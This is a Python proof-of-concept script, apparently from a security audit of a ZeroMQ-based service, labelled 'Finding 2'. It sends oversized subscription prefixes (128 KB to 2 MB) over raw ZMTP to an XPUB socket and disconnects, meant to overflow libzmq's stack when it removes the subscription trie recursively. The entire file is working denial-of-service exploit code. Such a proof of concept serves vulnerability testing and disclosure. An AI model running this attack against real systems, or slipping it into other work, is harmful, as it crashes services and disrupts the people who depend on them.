"""Finding 2: one huge subscription prefix sent to an XPUB, then a disconnect (libzmq's
subscription trie is removed recursively: deep enough, the stack overflows). Raw ZMTP: a pyzmq
SUB would keep the prefix in its own trie and crash this script the same way."""

import time

from abuse import Attack, RawZMTP, arguments, log

options = arguments()
attack = Attack(options)
sizes = [128 * 1024, 512 * 1024, 2 * 1024 * 1024]
for size in sizes:
    try:
        subscriber = RawZMTP(options.events, socket_type=b"SUB")
        subscriber.send_frame(b"\x01" + b"p" * size, more=False)
        time.sleep(0.7)
        subscriber.close()
    except OSError as error:
        log(f"the {size}-byte prefix: {error}")
    time.sleep(0.5)
    log(f"sent a {size}-byte prefix and disconnected")
attack.finish(prefix_bytes=sizes)
